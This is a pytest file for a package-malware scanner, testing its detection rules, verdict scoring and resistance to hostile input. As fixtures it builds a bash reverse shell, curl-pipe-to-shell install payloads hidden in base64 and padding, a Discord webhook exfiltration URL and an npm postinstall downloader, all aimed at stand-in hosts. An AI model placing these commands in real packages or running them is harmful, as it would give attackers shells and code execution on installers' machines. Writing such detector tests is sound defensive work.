"""The detection rules: each rule's fixtures (`fixtures/rules/<id>/bad/` must fire at the
marked line, `good/` look-alikes must not), scoring, the rules version, and hostile content
that must not break the scan.

Fixtures look malicious but are harmless (URLs under example.invalid, TEST-NET addresses);
they are scanned as bytes and never executed.
"""

from __future__ import annotations

import base64
import dataclasses
import os
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path
from typing import Any

import pytest

from package_analysis.analysis import engine, scoring
from package_analysis.analysis.model import SNIPPET_MAX, ChainStep, Finding, PackageRef
from package_analysis.analysis.rules import content, meta_wheel_diff
from package_analysis.analysis.rules.catalog import RULES

SHA = "0" * 64
HOST = "203.0.113.7"  # TEST-NET-3: documentation only, never routed


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _tree(tmp: Path, files: dict[str, str | bytes]) -> Path:
    root = tmp / "tree"
    for rel, body in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(body, bytes):
            path.write_bytes(body)
        else:
            path.write_text(body, encoding="utf-8")
    return root


def _scan(
    tmp: Path,
    files: dict[str, str | bytes],
    *,
    ecosystem: str = "pypi",
    name: str = "demo-widget",
    version: str = "1.0.0",
) -> list[Finding]:
    root = _tree(tmp, files)
    package = PackageRef(ecosystem, name, version, f"pkg:{ecosystem}/{name}@{version}")  # type: ignore[arg-type]
    return engine.scan_tree(root, ecosystem=ecosystem, package=package, artifact_sha256=SHA)


SETUP_HEAD = "from setuptools import setup\n"
PKG_INFO = (
    "Metadata-Version: 2.1\nName: demo-widget\nVersion: 1.0.0\nSummary: Widgets for demos\n"
    "Home-page: https://example.org/demo\nAuthor: Ada Example\n"
)
WEBHOOK = "https://discord.com/api/webhooks/" + "123456789012345678/" + "A" * 20 + "b" * 20
REV = "bash -i >& " + "/dev/tcp/" + HOST + "/4444 0>&1"

TESTS = Path(__file__).parent
FIXTURES = TESTS / "fixtures" / "rules"


def _cases(kind: str) -> list[tuple[str, Path]]:
    """(rule id, folder) for every `fixture.toml` under `<rule>/<kind>/`."""
    return sorted(
        (folder.name, toml.parent)
        for folder in FIXTURES.iterdir()
        for toml in (folder / kind).rglob("fixture.toml")
    )


def _scan_case(case: Path) -> tuple[list[Finding], dict[str, Any]]:
    spec = tomllib.loads((case / "fixture.toml").read_text(encoding="utf-8"))
    eco, name, version = spec["ecosystem"], spec["name"], spec["version"]
    package = PackageRef(eco, name, version, f"pkg:{eco}/{name}@{version}")
    root = _fixture_root(case, spec)
    if "artifacts" in spec:  # a release's sdist and wheel, compared as the pipeline does
        trees = {a: root / a for a in spec["artifacts"]}
        scanned = {
            a: engine.scan_tree(t, ecosystem=eco, package=package, artifact_sha256=SHA)
            for a, t in trees.items()
        }
        sdist = meta_wheel_diff.digest(trees["sdist"], "x.tar.gz")
        wheel = meta_wheel_diff.digest(trees["wheel"], "x.whl")
        assert sdist is not None and wheel is not None
        extra = meta_wheel_diff.compare(sdist, wheel, SHA, scanned["wheel"])
        return [f for fs in scanned.values() for f in fs] + extra, spec
    findings = engine.scan_tree(root, ecosystem=eco, package=package, artifact_sha256=SHA)
    return [f for f in findings if f.file != "fixture.toml"], spec


def _fixture_root(case: Path, spec: dict[str, Any]) -> Path:
    """The package a fixture scans: its own folder, or the one its `tree` names (relative to
    backend/tests) when an attack-class case or another rule's fixture holds the very same
    package, kept once."""
    if "tree" not in spec:
        return case
    own = [p.name for p in case.iterdir() if p.name != "fixture.toml"]
    assert not own, f"{case}: names a tree and holds files too: {own}"
    root = (TESTS / spec["tree"]).resolve()
    assert root.is_relative_to(TESTS) and root.is_dir(), f"{case}: no tree {spec['tree']}"
    return root


def test_every_rule_has_fixtures_and_every_yara_rule_a_catalog_entry() -> None:
    assert {rule for rule, _ in _cases("bad")} == set(RULES)
    assert {p.name for p in FIXTURES.iterdir()} == set(RULES)  # no folder for an unknown id
    assert content.rule_ids() <= set(RULES)
    for rule in RULES.values():
        assert rule.title and rule.explanation and rule.category
        assert all(v.severity != rule.severity for v in rule.variants.values())


@pytest.mark.parametrize(("rule_id", "case"), _cases("bad"), ids=lambda x: getattr(x, "name", x))
def test_rule_fires_on_its_fixture_at_the_marked_line(rule_id: str, case: Path) -> None:
    findings, spec = _scan_case(case)
    hits = [f for f in findings if f.rule == rule_id]
    assert hits, f"{rule_id} did not fire; got {[f.rule for f in findings]}"
    expected = spec.get("expect")
    assert expected, f"{case}: mark the expected finding ([[expect]] file and line)"
    got = {(f.file, f.line) for f in hits}
    for want in expected:
        assert (want["file"], want.get("line")) in got, (want, got)
    hit = hits[0]
    rule = RULES[rule_id]
    assert (hit.title, hit.category) == (rule.title, rule.category)
    assert hit.severity in {rule.severity, *(v.severity for v in rule.variants.values())}
    assert rule.explanation in hit.explanation
    assert hit.artifact == SHA
    assert len(hit.snippet) <= SNIPPET_MAX and hit.snippet.isprintable()


@pytest.mark.parametrize(("rule_id", "case"), _cases("good"), ids=lambda x: getattr(x, "name", x))
def test_rule_stays_quiet_on_its_look_alikes(rule_id: str, case: Path) -> None:
    findings, spec = _scan_case(case)
    assert rule_id not in {f.rule for f in findings}, [f.as_dict() for f in findings]
    assert scoring.verdict(findings)[0] == spec.get("verdict", "clean")


def test_findings_point_at_file_and_line_with_reachability(tmp_path: Path) -> None:
    files = {
        "demo-1.0/setup.py": SETUP_HEAD + "import os\n\n\nos.system('echo hi')\n",
        "demo-1.0/tests/test_x.py": f"HOOK = '{WEBHOOK}'\n",
        "demo-1.0/demo/__init__.py": "import subprocess\nsubprocess.run(['true'])\n"
        "def later():\n    subprocess.run(['true'])\n",
    }
    findings = _scan(tmp_path, files)
    got = {(f.rule, f.file, f.line, f.reachability) for f in findings}
    assert ("PY-INSTALL-PROCESS", "demo-1.0/setup.py", 5, "install") in got
    assert ("CNT-EXFIL-WEBHOOK", "demo-1.0/tests/test_x.py", 1, "test") in got
    assert ("PY-INSTALL-PROCESS", "demo-1.0/demo/__init__.py", 2, "import") in got
    assert not any(f.line == 4 and f.file.endswith("__init__.py") for f in findings)


def test_decoded_payload_findings_point_at_the_literal(tmp_path: Path) -> None:
    inner = "import os\nos.system('" + REV + "')\n"
    files = {"demo-1.0/setup.py": SETUP_HEAD + "\n\nX = '" + _b64(inner) + "'\n"}
    findings = _scan(tmp_path, files)
    rev = [f for f in findings if f.rule == "CNT-REVSHELL"]
    assert rev and rev[0].line == 4 and rev[0].reachability == "install"
    assert "base64" in rev[0].explanation
    assert scoring.verdict(findings)[0] == "malicious"


# ---- scoring ----
def _finding(rule: str, severity: str, reach: str) -> Finding:
    return Finding(rule, "t", "c", severity, "f", 1, "s", reach, "e")  # type: ignore[arg-type]


def test_verdict_mapping() -> None:
    strong = "PY-EXEC-DECODED"  # declared strong: evidence of intent on its own
    assert RULES[strong].strong and not RULES["PY-INSTALL-NETWORK"].strong
    assert scoring.verdict([]) == ("clean", 0.0)
    assert scoring.verdict([_finding(strong, "critical", "install")]) == ("malicious", 9.0)
    assert scoring.verdict([_finding("PY-INSTALL-NETWORK", "high", "import")]) == (
        "suspicious",
        6.0,
    )
    assert scoring.verdict([_finding("PY-INSTALL-NETWORK", "high", "runtime")]) == ("clean", 3.6)
    # tests, docs and tooling are context: at most 0.2 together, never a verdict alone ...
    assert scoring.verdict([_finding(strong, "critical", "test")]) == ("clean", 2.0)
    # ... but they add to evidence where code runs
    beside = [
        _finding("PY-INSTALL-NETWORK", "high", "import"),
        _finding(strong, "critical", "test"),
    ]
    assert scoring.verdict(beside) == ("suspicious", 6.8)
    # a rule that fires where code runs counts there, at that weight (not its test weight)
    both = [_finding("CNT-MINER", "medium", "runtime"), _finding("CNT-MINER", "critical", "test")]
    assert scoring.verdict(both) == ("clean", 1.8)
    # the same rule repeated counts once
    same = [_finding("PY-INSTALL-PROCESS", "medium", "install")] * 10
    assert scoring.verdict(same) == ("clean", 3.0)


def test_weak_findings_never_add_up_to_malicious() -> None:
    two_highs = [
        _finding("PY-INSTALL-NETWORK", "high", "install"),
        _finding("CNT-PERSISTENCE", "high", "install"),
    ]
    assert scoring.verdict(two_highs) == ("suspicious", 6.9)  # 8.4 uncapped: no intent shown
    with_intent = [*two_highs, _finding("PY-RECON-EXFIL", "critical", "install")]
    assert scoring.verdict(with_intent)[0] == "malicious"
    # a strong rule in tests or docs (not installed code) is not intent
    in_tests = [*two_highs, _finding("PY-RECON-EXFIL", "critical", "test")]
    assert scoring.verdict(in_tests) == ("suspicious", 6.9)
    in_module = [*two_highs, _finding("PY-RECON-EXFIL", "critical", "runtime")]
    assert scoring.verdict(in_module)[0] == "malicious"
    # lows from many rules count as one signal
    lows = [_finding(f"RULE-{i}", "low", "install") for i in range(8)]
    assert scoring.verdict(lows) == ("clean", 1.0)
    medium_and_lows = [_finding("PY-INSTALL-PROCESS", "medium", "install"), *lows]
    assert scoring.verdict(medium_and_lows) == ("clean", 3.7)


def test_critical_intent_in_an_installed_module_is_malicious_even_when_only_called() -> None:
    # a trojan function posting the key it is given: runtime reach, but its intent is clear
    key = dataclasses.replace(
        _finding("PY-KEY-EXFIL", "critical", "runtime"), category="exfiltration"
    )
    assert scoring.verdict([key]) == ("malicious", 7.2)
    # not for hiding alone (a code object rebuilt and run at runtime), not for a rule that
    # is not evidence of intent, nor for high severity
    hidden = dataclasses.replace(
        _finding("PY-EXEC-DECODED", "critical", "runtime"), category="obfuscation"
    )
    assert scoring.verdict([hidden]) == ("suspicious", 5.4)
    step = ChainStep("transform", "f", 1, "XOR of characters")
    decoded = dataclasses.replace(hidden, chain=(step,))
    assert scoring.verdict([decoded]) == ("malicious", 7.2)
    assert scoring.verdict([_finding("CNT-BIDI-CONTROL", "critical", "runtime")]) == (
        "suspicious",
        5.4,
    )
    assert scoring.verdict([_finding("CNT-MINER", "high", "runtime")]) == ("clean", 3.6)
    # nor in tests
    assert scoring.verdict([_finding("PY-KEY-EXFIL", "critical", "test")]) == ("clean", 2.0)


def test_strong_at_load_rules_show_intent_only_in_code_that_runs_by_itself() -> None:
    assert RULES["CNT-DOWNLOAD-EXEC"].strong_at_load and not RULES["CNT-DOWNLOAD-EXEC"].strong
    pair = [_finding("CNT-DOWNLOAD-EXEC", "high", "install"), _finding("X", "medium", "install")]
    assert scoring.verdict(pair) == ("malicious", 7.2)
    # the same text in an installed module (a CLI printing an install hint) stays capped
    at_runtime = [_finding("CNT-DOWNLOAD-EXEC", "high", "runtime"), *pair[1:]]
    assert scoring.verdict(at_runtime) == ("suspicious", 5.5)
    two_highs = [
        _finding("CNT-DOWNLOAD-EXEC", "high", "runtime"),
        _finding("PY-INSTALL-NETWORK", "high", "import"),
        _finding("PY-INSTALL-PROCESS", "high", "install"),
    ]
    assert scoring.verdict(two_highs) == ("suspicious", 6.9)


# ---- rules version ----
def test_rules_version_is_a_hash_of_the_rules_and_changes_with_them(tmp_path: Path) -> None:
    here = Path(engine.__file__).parent
    copy = tmp_path / "analysis"
    shutil.copytree(here, copy, ignore=shutil.ignore_patterns("__pycache__"))
    assert engine._rules_version(copy) == engine.RULES_VERSION
    module = copy / "rules" / "cnt_shell.py"
    module.write_text(module.read_text() + "\n# a comment is a change too\n")
    changed = engine._rules_version(copy)
    assert changed != engine.RULES_VERSION and len(changed) == 16


# ---- hostile content ----
def test_hostile_content_does_not_break_the_scan(tmp_path: Path) -> None:
    outside = tmp_path / "outside.py"
    outside.write_text("import os\nos.system('x')\n")
    files: dict[str, str | bytes] = {
        "demo-1.0/setup.py": "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n",
        "demo-1.0/demo/deep.py": "x = " + "-" * 200_000 + "1\n",
        "demo-1.0/demo/nested.py": "x = "
        + "[" * 90
        + "]" * 90
        + "\n"
        + "y = "
        + "{'a': " * 900
        + "1"
        + "}" * 900
        + "\n",
        "demo-1.0/demo/long.py": "s = '" + "A" * 6_000_000 + "'\n",
        "demo-1.0/demo/junk.py": bytes(range(256)) * 2000,
        "demo-1.0/demo/latin1.py": "name = 'caf\xe9'\n".encode("latin-1"),
        "demo-1.0/demo/bomb.py": "X = '"
        + base64.b64encode(__import__("zlib").compress(b"A" * 50_000_000)).decode()
        + "'\n",
        "demo-1.0/PKG-INFO": b"\xff\xfe\x00garbage",
        "package.json": "[" * 100_000 + "]" * 100_000,
        "demo-1.0/demo/x.js": "a(" * 50_000 + ")" * 50_000,
    }
    root = _tree(tmp_path, files)
    (root / "demo-1.0" / "link.py").symlink_to(outside)
    progress: list[tuple[int, int]] = []
    findings = engine.scan_tree(
        root,
        ecosystem="pypi",
        package=PackageRef("pypi", "demo-widget", "1.0.0", "pkg:pypi/demo-widget@1.0.0"),
        artifact_sha256=SHA,
        on_file=lambda i, n: progress.append((i, n)),
    )
    assert progress[-1] == (len(files), len(files))  # the symlink is not a file of the tree
    assert not any(f.file.endswith("link.py") for f in findings)
    assert all(len(f.snippet) <= SNIPPET_MAX for f in findings)


def test_install_time_code_padded_past_the_size_cap_is_still_parsed(tmp_path: Path) -> None:
    # Found on a real sample: a 1.7 MB setup.py that execs a base64 blob at install time
    # came out clean once large Python files were skipped. Padding must not hide install code.
    payload = "import os\nos.system('curl -s http://" + HOST + "/x | sh')\n" + "#" * 1_300_000
    setup = SETUP_HEAD + "from base64 import b64decode\n" + f"exec(b64decode('{_b64(payload)}'))\n"
    assert len(setup) > 1024 * 1024
    findings = _scan(
        tmp_path, {"demo-widget-1.0.0/setup.py": setup, "demo-widget-1.0.0/PKG-INFO": PKG_INFO}
    )
    verdict, _ = scoring.verdict(findings)
    assert verdict == "malicious", [f.rule for f in findings]
    assert any(f.rule == "PY-EXEC-DECODED" and f.reachability == "install" for f in findings)


def test_check_cancels_between_files(tmp_path: Path) -> None:
    root = _tree(tmp_path, {f"demo-1.0/demo/m{i}.py": "x = 1\n" for i in range(5)})
    calls: list[int] = []

    class Cancelled(Exception):
        pass

    def check() -> None:
        calls.append(1)
        if len(calls) == 3:
            raise Cancelled

    with pytest.raises(Cancelled):
        engine.scan_tree(
            root,
            ecosystem="pypi",
            package=PackageRef("pypi", "demo-widget", "1.0.0", ""),
            artifact_sha256=SHA,
            check=check,
        )
    assert len(calls) == 3


# ---- inputs as an installer reads them ----
def test_skipped_files_are_listed_with_their_reason(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from package_analysis.analysis import inputs

    monkeypatch.setattr(inputs, "MAX_WHOLE_BYTES", 4096)
    monkeypatch.setattr(inputs, "PART_BYTES", 1024)
    tail = "import os\nos.system('curl -s http://" + HOST + "/x | sh')\n"
    files = {
        "demo-1.0/setup.py": SETUP_HEAD + "#" * 8000 + "\n" + tail,
        "demo-1.0/demo/old.py": "import subprocess\nif subprocess print 'broken'\n",
    }
    root = _tree(tmp_path, files)
    skipped: list[dict[str, str]] = []
    package = PackageRef("pypi", "demo-widget", "1.0.0", "")
    findings = engine.scan_tree(
        root, ecosystem="pypi", package=package, artifact_sha256=SHA, skipped=skipped
    )
    reasons = {s["file"]: s["reason"] for s in skipped}
    assert reasons["demo-1.0/setup.py"].startswith("partly scanned")
    assert reasons["demo-1.0/demo/old.py"].startswith(
        "Python that does not parse (SyntaxError on line 2)"
    )
    # the payload after the padding is in the tail: still seen
    assert any(f.rule == "PY-INSTALL-PROCESS" and f.file == "demo-1.0/setup.py" for f in findings)


def test_a_rule_that_raises_loses_only_its_own_findings(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A construct built to crash one rule must not blind the others on that file."""
    from package_analysis.analysis.rules import catalog, py_process

    def crash(check: object) -> None:
        raise IndexError("built to crash this rule")

    monkeypatch.setattr(py_process, "check_python", crash)
    catalog.checks.cache_clear()
    try:
        tail = "import os, base64\nos.system('curl -s http://" + HOST + "/x | sh')\n"
        root = _tree(tmp_path, {"demo-1.0/setup.py": SETUP_HEAD + tail})
        skipped: list[dict[str, str]] = []
        findings = engine.scan_tree(
            root,
            ecosystem="pypi",
            package=PackageRef("pypi", "demo-widget", "1.0.0", ""),
            artifact_sha256=SHA,
            skipped=skipped,
        )
    finally:
        catalog.checks.cache_clear()
    rules = {f.rule for f in findings if f.file == "demo-1.0/setup.py"}
    assert "PY-INSTALL-PROCESS" not in rules  # the crashed rule's own finding is gone
    assert "PY-INSTALL-HOOK-EXEC" in rules or "CNT-DOWNLOAD-EXEC" in rules, rules
    assert {
        "file": "demo-1.0/setup.py",
        "reason": "partly scanned: py_process failed (IndexError)",
    } in skipped


def test_nul_bytes_boms_cookies_and_fullwidth_names_do_not_hide_code(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "demo-1.0/demo/__init__.py": b"# \x00\nimport os\nos.system('echo hi')\n",
        "demo-1.0/demo/wide.py": "import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('"
        + _b64("print(1)")
        + "'))\n",
        "demo-1.0/demo_hook.pth": b"import os\x00;os.system('echo hi')\n",
        "demo-1.0/demo/cookie.py": "# -*- coding: utf-7 -*-\nX = 1\n",
    }
    findings = _scan(tmp_path, files)
    got = {(f.rule, f.file) for f in findings}
    assert ("PY-INSTALL-PROCESS", "demo-1.0/demo/__init__.py") in got
    assert ("PY-EXEC-DECODED", "demo-1.0/demo/wide.py") in got
    assert ("PY-PTH-CODE", "demo-1.0/demo_hook.pth") in got
    assert ("PY-UNUSUAL-CODEC", "demo-1.0/demo/cookie.py") in got
    npm = {
        "package/package.json": "\ufeff" + '{"name": "demo-widget", "version": "1.0.0", '
        '"scripts": {"postinstall": "curl https://example.invalid/i.sh | sh"}}',
    }
    findings = _scan(tmp_path / "npm", npm, ecosystem="npm")
    assert {"NPM-INSTALL-SCRIPT", "NPM-INSTALL-SCRIPT-SHELL"} <= {f.rule for f in findings}


def test_rule_reference_is_generated_from_the_catalogue() -> None:
    from package_analysis.analysis.rules import reference

    assert reference.DOC.read_text(encoding="utf-8") == reference.markdown(), "run make rules-doc"
    for rule_id in RULES:
        assert f"### {rule_id}\n" in reference.markdown()


def test_the_imitated_name_is_the_same_on_every_run() -> None:
    """The popular names are a set: the answer must not follow the hash seed's order."""
    code = (
        "from package_analysis.analysis.rules.metadata import typosquat_target as t;"
        "print(t('equests', 'pypi'), t('numpi', 'pypi'), t('lodahs', 'npm'))"
    )
    answers = {
        subprocess.run(
            [sys.executable, "-c", code],
            env={**os.environ, "PYTHONHASHSEED": str(seed)},
            cwd=Path(__file__).resolve().parents[1],
            capture_output=True,
            text=True,
            check=True,
        ).stdout.strip()
        for seed in range(6)
    }
    assert answers == {"requests numpy lodash"}
